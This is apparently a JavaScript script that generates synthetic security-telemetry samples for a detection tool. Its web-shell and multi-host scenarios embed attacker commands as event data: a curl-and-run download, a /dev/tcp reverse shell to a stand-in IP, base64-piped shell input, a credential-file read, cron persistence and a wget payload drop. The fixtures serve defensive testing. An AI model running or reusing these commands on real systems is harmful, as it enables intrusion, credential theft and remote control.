/**
 * Writes the four built-in samples to ui/samples/. Everything in them is invented: hosts, people, addresses (from the
 * documentation ranges of RFC 5737), hashes and ids. The same seed gives the same bytes; `test/ui/samples.test.ts` checks it.
 *
 *   node scripts/make-samples.mjs
 */
import { mkdirSync, writeFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { toAuditLog } from './audit-sample.mjs'

const MINUTE = 60_000
const HOUR = 60 * MINUTE
const STEP_UP_MILLIS = 140

/** A small generator with a fixed seed: mulberry32. */
function randomFrom(seed) {
  let state = seed
  const next = () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), state | 1)
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
  return {
    below: (limit) => Math.floor(next() * limit),
    pick: (list) => list[Math.floor(next() * list.length)],
    hex: (digits) => Array.from({ length: digits }, () => Math.floor(next() * 16).toString(16)).join('')
  }
}

const USERS = {
  root: { id: '0', name: 'root' },
  'www-data': { id: '33', name: 'www-data' },
  deploy: { id: '1001', name: 'deploy' },
  postgres: { id: '113', name: 'postgres' },
  zabbix: { id: '118', name: 'zabbix' },
  tomcat: { id: '998', name: 'tomcat' }
}

/** One host with its own process ids and entity ids. */
function makeHost(random, name, ip) {
  const agent = `${random.hex(8)}-${random.hex(4)}-4${random.hex(3)}-8${random.hex(3)}-${random.hex(12)}`
  let pid = 1200 + random.below(800)
  const started = (executable, user, workingDirectory, commandLine) => {
    pid += 1 + random.below(9)
    return process(executable, user, workingDirectory, commandLine, pid)
  }
  const process = (executable, user, workingDirectory, commandLine, ownPid) => ({
    name: executable.slice(executable.lastIndexOf('/') + 1),
    executable,
    command_line: commandLine,
    args: splitArguments(commandLine),
    working_directory: workingDirectory,
    pid: ownPid,
    entity_id: Buffer.from(`${agent.slice(0, 8)}-${ownPid}-${random.hex(6)}`).toString('base64'),
    user: USERS[user]
  })
  return { name, ip, agent, started, fixed: process }
}

/** Arguments as the kernel got them: `sh -c TEXT` has three, others are cut at blanks. */
function splitArguments(commandLine) {
  const shell = /^(\S+) (-c) ([\s\S]+)$/.exec(commandLine)
  return shell ? shell.slice(1) : commandLine.split(' ')
}

/** The fields every event of a host shares. */
function envelope(host, timeMillis, dataset, category, type, action) {
  return {
    '@timestamp': new Date(timeMillis).toISOString(),
    agent: { id: host.agent, type: 'endpoint', version: '8.17.3' },
    data_stream: { dataset: `endpoint.events.${dataset}`, namespace: 'default', type: 'logs' },
    event: {
      action,
      category: [category],
      dataset: `endpoint.events.${dataset}`,
      ingested: new Date(timeMillis + 3000).toISOString(),
      kind: 'event',
      module: 'endpoint',
      type: [type]
    },
    host: {
      name: host.name,
      hostname: host.name,
      ip: [host.ip, '127.0.0.1'],
      os: { family: 'debian', name: 'Linux', type: 'linux' }
    }
  }
}

function processEvent(host, timeMillis, child, parent, { type = 'start', action = 'exec' } = {}) {
  const { user, ...own } = child
  const { user: _, args, ...above } = parent
  return {
    ...envelope(host, timeMillis, 'process', 'process', type, action),
    process: { ...own, parent: { ...above, args } },
    user
  }
}

function fileEvent(host, timeMillis, actor, path, { type = 'creation', action = 'creation' } = {}) {
  const name = path.slice(path.lastIndexOf('/') + 1)
  const extension = name.includes('.') ? name.slice(name.lastIndexOf('.') + 1) : undefined
  const { name: program, executable, pid, entity_id } = actor
  return {
    ...envelope(host, timeMillis, 'file', 'file', type, action),
    file: { path, name, ...(extension ? { extension } : {}) },
    process: { name: program, executable, pid, entity_id },
    user: actor.user
  }
}

function networkEvent(host, timeMillis, actor, remote, { direction = 'egress', action = 'connection_attempted' } = {}) {
  const { name, executable, pid, entity_id } = actor
  const here = { ip: host.ip, port: direction === 'egress' ? 40000 + (pid % 20000) : remote.localPort }
  const there = { ip: remote.ip, port: remote.port }
  return {
    ...envelope(host, timeMillis, 'network', 'network', 'start', action),
    network: { direction, transport: 'tcp', type: 'ipv4' },
    source: direction === 'egress' ? here : there,
    destination: direction === 'egress' ? there : here,
    process: { name, executable, pid, entity_id },
    user: actor.user
  }
}

/** What any Linux web server does all day. */
function backgroundOf(host, random, from, hours) {
  const init = host.fixed('/usr/lib/systemd/systemd', 'root', '/', '/sbin/init', 1)
  const cron = host.fixed('/usr/sbin/cron', 'root', '/var/spool/cron', '/usr/sbin/cron -f', 611)
  const sshd = host.fixed('/usr/sbin/sshd', 'root', '/', 'sshd: /usr/sbin/sshd -D', 702)
  const events = []
  for (let minute = 5 + random.below(4); minute < hours * 60; minute += 20) {
    const at = from + minute * MINUTE + random.below(20_000)
    const runParts = host.started('/usr/bin/dash', 'root', '/root', '/bin/sh -c cd / && run-parts --report /etc/cron.hourly')
    events.push(processEvent(host, at, runParts, cron))
  }
  for (let minute = 11; minute < hours * 60; minute += 30) {
    const at = from + minute * MINUTE + random.below(9_000)
    const check = host.started('/usr/bin/df', 'zabbix', '/', '/usr/bin/df -P /var/www')
    events.push(
      processEvent(host, at, check, host.fixed('/usr/sbin/zabbix_agentd', 'zabbix', '/', 'zabbix_agentd: listener', 840))
    )
  }
  for (let minute = 23; minute < hours * 60; minute += 85) {
    const at = from + minute * MINUTE
    const shell = host.started('/usr/bin/bash', 'deploy', '/home/deploy', '-bash')
    const work = host.started(
      '/usr/bin/tail',
      'deploy',
      '/home/deploy',
      random.pick(['tail -n 50 /var/log/nginx/error.log', 'tail -f /var/log/syslog'])
    )
    events.push(
      networkEvent(
        host,
        at - 900,
        sshd,
        { ip: '10.20.4.9', port: 51022, localPort: 22 },
        { direction: 'ingress', action: 'connection_accepted' }
      ),
      processEvent(host, at, shell, sshd),
      processEvent(host, at + 21_000, work, shell)
    )
  }
  const rotate = host.started('/usr/sbin/logrotate', 'root', '/', '/usr/sbin/logrotate /etc/logrotate.conf')
  events.push(
    processEvent(host, from + 2 * HOUR + 4_000, rotate, init),
    fileEvent(host, from + 2 * HOUR + 4_600, rotate, '/var/log/nginx/access.log.1')
  )
  return events
}

/** Mail, thumbnails and other commands that a PHP application starts many times. */
function routineOf(host, random, from, hours, parent, jobs) {
  const events = []
  for (const { command, directory, everyMinutes } of jobs) {
    for (let minute = 3 + random.below(7); minute < hours * 60; minute += everyMinutes) {
      const at = from + minute * MINUTE + random.below(30_000)
      events.push(processEvent(host, at, host.started('/usr/bin/dash', 'www-data', directory, `sh -c ${command}`), parent))
    }
  }
  return events
}

function webShell() {
  const random = randomFrom(2026)
  const host = makeHost(random, 'web-03', '10.20.4.33')
  const from = Date.parse('2026-03-02T08:00:00Z')
  const fpm = host.fixed('/usr/sbin/php-fpm8.2', 'www-data', '/var/www/shop', 'php-fpm: pool www', 1188)
  const nginx = host.fixed('/usr/sbin/nginx', 'www-data', '/', 'nginx: worker process', 902)
  const uploads = '/var/www/shop/wp-content/uploads/2026/03'
  const events = [
    ...backgroundOf(host, random, from, 8),
    ...routineOf(host, random, from, 8, fpm, [
      { command: '/usr/sbin/sendmail -t -i', directory: '/var/www/shop', everyMinutes: 47 },
      { command: 'convert -resize 300x300 - jpg:-', directory: '/var/www/shop/wp-admin', everyMinutes: 62 }
    ])
  ]
  for (let index = 0; index < 9; index++) {
    const at = from + index * 51 * MINUTE + random.below(MINUTE)
    const client = {
      ip: random.pick(['192.0.2.14', '192.0.2.201', '198.51.100.23']),
      port: 30000 + random.below(30000),
      localPort: 443
    }
    events.push(networkEvent(host, at, nginx, client, { direction: 'ingress', action: 'connection_accepted' }))
    if (index % 3 === 0) events.push(fileEvent(host, at + 800, fpm, `${uploads}/photo-${1040 + index}.jpg`))
  }

  const start = Date.parse('2026-03-02T14:02:07.318Z')
  const attacker = { ip: '203.0.113.77', port: 49822, localPort: 443 }
  events.push(
    networkEvent(host, start - 9_400, nginx, attacker, { direction: 'ingress', action: 'connection_accepted' }),
    fileEvent(host, start - 9_050, fpm, `${uploads}/thumb-cache.php`),
    fileEvent(host, start - 9_020, fpm, `${uploads}/.htaccess`)
  )
  const hands = [
    { after: 0, text: 'id', child: ['/usr/bin/id', 'id'] },
    { after: 6_200, text: 'uname -a; cat /etc/os-release', child: ['/usr/bin/uname', 'uname -a'] },
    {
      after: 19_800,
      text: 'cat /var/www/shop/wp-config.php | grep DB_',
      child: ['/usr/bin/cat', 'cat /var/www/shop/wp-config.php']
    },
    {
      after: 47_100,
      text: 'echo aWQ7IGhvc3RuYW1lOyBscyAtbGEgL2hvbWUvZGVwbG95Ly5zc2g= | base64 -d | sh',
      child: ['/usr/bin/base64', 'base64 -d']
    },
    {
      after: 92_700,
      text: 'curl -fsSL http://203.0.113.77/a.sh -o /tmp/.cache-x && bash /tmp/.cache-x',
      child: ['/usr/bin/curl', 'curl -fsSL http://203.0.113.77/a.sh -o /tmp/.cache-x'],
      fetches: true
    },
    { after: 171_400, text: 'find / -perm -4000 -type f 2>/dev/null', child: ['/usr/bin/find', 'find / -perm -4000 -type f'] }
  ]
  for (const { after, text, child, fetches } of hands) {
    const at = start + after
    const shell = host.started('/usr/bin/dash', 'www-data', uploads, `sh -c ${text}`)
    const work = host.started(child[0], 'www-data', uploads, child[1])
    events.push(
      processEvent(
        host,
        at - 4,
        { ...shell, name: 'php-fpm8.2', executable: fpm.executable, command_line: fpm.command_line, args: fpm.args },
        fpm,
        { action: 'fork' }
      ),
      processEvent(host, at, shell, fpm),
      processEvent(host, at + 9, work, shell),
      processEvent(host, at + STEP_UP_MILLIS, shell, fpm, { type: 'end', action: 'end' })
    )
    if (!fetches) continue
    const script = host.started('/usr/bin/bash', 'www-data', uploads, 'bash /tmp/.cache-x')
    const back = host.started('/usr/bin/bash', 'www-data', '/tmp', 'bash -c bash -i >& /dev/tcp/203.0.113.77/4444 0>&1')
    events.push(
      networkEvent(host, at + 40, work, { ip: '203.0.113.77', port: 80 }),
      fileEvent(host, at + 410, work, '/tmp/.cache-x'),
      processEvent(host, at + 640, script, shell),
      processEvent(host, at + 700, back, script),
      networkEvent(host, at + 745, back, { ip: '203.0.113.77', port: 4444 }),
      fileEvent(host, at + 2_300, script, '/var/spool/cron/crontabs/www-data', { type: 'change', action: 'modification' })
    )
  }
  return events
}

function quietDay() {
  const random = randomFrom(733)
  const from = Date.parse('2026-03-03T00:00:00Z')
  const hosts = [makeHost(random, 'web-01', '10.20.4.31'), makeHost(random, 'web-02', '10.20.4.32')]
  return hosts.flatMap((host, index) => {
    const fpm = host.fixed('/usr/sbin/php-fpm8.2', 'www-data', '/var/www/intranet', 'php-fpm: pool intranet', 1301)
    const cron = host.fixed('/usr/sbin/cron', 'root', '/var/spool/cron', '/usr/sbin/cron -f', 611)
    const events = [
      ...backgroundOf(host, random, from, 10),
      ...routineOf(host, random, from, 10, cron, [
        { command: 'php /var/www/intranet/cron.php --quiet', directory: '/var/www', everyMinutes: 60 },
        { command: 'cd /var/www/intranet && ./bin/console messenger:stats', directory: '/var/www', everyMinutes: 95 }
      ]),
      ...routineOf(host, random, from, 10, fpm, [
        { command: '/usr/sbin/sendmail -t -i', directory: '/var/www/intranet/public', everyMinutes: 75 },
        { command: 'convert -thumbnail 200x200 - png:-', directory: '/var/www/intranet/public', everyMinutes: 110 }
      ])
    ]
    if (index === 0) {
      const deployed = host.started(
        '/usr/bin/dash',
        'www-data',
        '/var/www/intranet',
        'sh -c git -C /var/www/intranet rev-parse --short HEAD'
      )
      const invoice = host.started(
        '/usr/bin/dash',
        'www-data',
        '/var/www/intranet/var/tmp',
        'sh -c pdftotext -layout invoice-20733.pdf -'
      )
      events.push(
        processEvent(host, from + 6 * HOUR + 12 * MINUTE, deployed, fpm),
        processEvent(host, from + 9 * HOUR + 3 * MINUTE, invoice, fpm)
      )
    }
    return events
  })
}

function manyHosts() {
  const random = randomFrom(5150)
  const from = Date.parse('2026-03-04T06:00:00Z')
  const names = ['app-01', 'app-02', 'app-03', 'app-04', 'app-05', 'app-06']
  const hosts = names.map((name, index) => makeHost(random, name, `10.20.6.${11 + index}`))
  const events = hosts.flatMap((host, index) => [
    ...backgroundOf(host, random, from, 3),
    // The loop: the same command once on each of six hosts. One event a host, but six agents: the rule lets it pass.
    processEvent(
      host,
      from + 40 * MINUTE + index * 7_000,
      host.started('/usr/bin/dash', 'tomcat', '/opt/tomcat', 'sh -c for d in /opt/tomcat/logs/*; do gzip -q "$d"; done'),
      host.fixed('/usr/lib/jvm/java-17/bin/java', 'tomcat', '/opt/tomcat', 'java -jar /opt/tomcat/bin/bootstrap.jar', 1402)
    )
  ])
  const host = hosts[3]
  const java = host.fixed(
    '/usr/lib/jvm/java-17/bin/java',
    'tomcat',
    '/opt/tomcat',
    'java -jar /opt/tomcat/bin/bootstrap.jar',
    1402
  )
  const at = Date.parse('2026-03-04T07:31:15Z')
  const shell = (user, directory, command, executable = '/usr/bin/dash') => host.started(executable, user, directory, command)
  events.push(
    processEvent(host, at, shell('tomcat', '/opt/tomcat/webapps/ROOT', 'sh -c whoami'), java),
    processEvent(
      host,
      at + 14_000,
      shell('tomcat', '/opt/tomcat/webapps/ROOT', 'sh -c wget -q http://198.51.100.9/k -O /dev/shm/.k'),
      java
    ),
    // Near misses: each fails exactly one condition.
    processEvent(host, at + 31_000, shell('tomcat', '/', 'sh -c chmod +x /dev/shm/.k'), java),
    processEvent(host, at + 33_000, shell('tomcat', '/', 'sh -c /dev/shm/.k -d'), java),
    processEvent(host, at + 52_000, shell('tomcat', '/opt/tomcat/webapps/ROOT', 'sh /dev/shm/.r'), java),
    processEvent(
      host,
      at + 61_000,
      shell('tomcat', '/opt/tomcat/webapps/ROOT', 'python3 -c import pty;pty.spawn("/bin/sh")', '/usr/bin/python3.11'),
      java
    ),
    processEvent(host, at + 64_000, shell('tomcat', '/opt/tomcat/webapps/ROOT', 'sh -c ps aux'), java, { action: 'fork' }),
    networkEvent(host, at + 14_300, java, { ip: '198.51.100.9', port: 80 })
  )
  return events
}

/** Columns in the order of first sight, dotted; several values as a JSON array. */
function toCsv(events) {
  const flat = events.map((event) => flatten(event))
  const header = [...new Set(flat.flatMap((event) => [...event.keys()]))]
  const field = (text) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text)
  return [header, ...flat.map((event) => header.map((name) => event.get(name) ?? ''))]
    .map((row) => row.map(field).join(',') + '\n')
    .join('')
}

function flatten(value, path = '', into = new Map()) {
  for (const [key, item] of Object.entries(value)) {
    const name = path ? `${path}.${key}` : key
    if (Array.isArray(item)) into.set(name, item.length === 1 ? String(item[0]) : JSON.stringify(item))
    else if (item !== null && typeof item === 'object') flatten(item, name, into)
    else if (item !== undefined) into.set(name, String(item))
  }
  return into
}

const inTime = (events) => events.toSorted((a, b) => a['@timestamp'].localeCompare(b['@timestamp']))
const toNdjson = (events) => events.map((event) => JSON.stringify(event) + '\n').join('')

/** File name to text of every sample. */
export function makeSamples() {
  return new Map([
    ['web-shell.ndjson', toNdjson(inTime(webShell()))],
    ['web-shell.audit.log', toAuditLog(inTime(webShell()))],
    ['quiet-day.ndjson', toNdjson(inTime(quietDay()))],
    ['many-hosts.csv', toCsv(inTime(manyHosts()))]
  ])
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const folder = new URL('../ui/samples/', import.meta.url)
  mkdirSync(folder, { recursive: true })
  for (const [name, text] of makeSamples()) {
    writeFileSync(new URL(name, folder), text)
    console.log(`${name}: ${text.trimEnd().split('\n').length} lines, ${text.length} bytes`)
  }
}
